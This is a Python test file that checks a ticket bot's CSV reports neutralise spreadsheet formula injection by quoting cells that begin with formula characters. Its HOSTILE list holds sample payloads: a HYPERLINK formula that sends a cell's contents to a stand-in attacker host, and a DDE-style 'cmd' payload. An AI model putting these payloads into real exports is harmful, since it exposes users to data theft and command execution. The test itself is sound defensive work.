"""CSV reports open in a spreadsheet without running anything a person wrote (CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bot.reports.spreadsheet import safe_cell
from tests.reports.conftest import rec, run_cli, write_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "-foo",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
]


def ts(minutes: int) -> str:
    return f"01-03-2024 10:{minutes:02d}:00 +0000"


def test_report_csv_quotes_cells_that_would_be_formulas(settings, tmp_path: Path) -> None:
    records = [
        rec(number, ts(0), {"status": status, "priority": 2, "requester": 5}, performer_id=5)
        for number, status in enumerate(HOSTILE, start=1)
    ]
    records.append(rec(1, ts(10), {"note": {"id": 1, "type": 1}}))
    assert (
        run_cli(settings, "import-activities", str(write_export(tmp_path / "x.json", records))) == 0
    )
    out = tmp_path / "r.csv"
    assert run_cli(settings, "report", "--format", "csv", "--output", str(out)) == 0

    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [row["status"] for row in rows] == ["'" + status for status in HOSTILE]
    # Numbers stay numbers: the first response of ticket 1 is 600 seconds, written as 600.
    assert rows[0]["first_response"] == "600" and rows[0]["ticket_id"] == "1"
    assert all(not cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row.values())

    summary = tmp_path / "s.csv"
    assert (
        run_cli(settings, "report", "--summary", "--format", "csv", "--output", str(summary)) == 0
    )
    cells = [cell for row in csv.reader(io.StringIO(summary.read_text())) for cell in row]
    assert "All tickets" in cells and not any(cell.startswith(tuple("=+-@")) for cell in cells)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-foo", "'-foo"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        (-12, -12),
        (0.5, 0.5),
        ("Open", "Open"),
        (None, ""),
    ],
)
def test_safe_cell_quotes_formula_starts_and_keeps_numbers(value, cell) -> None:
    assert safe_cell(value) == cell
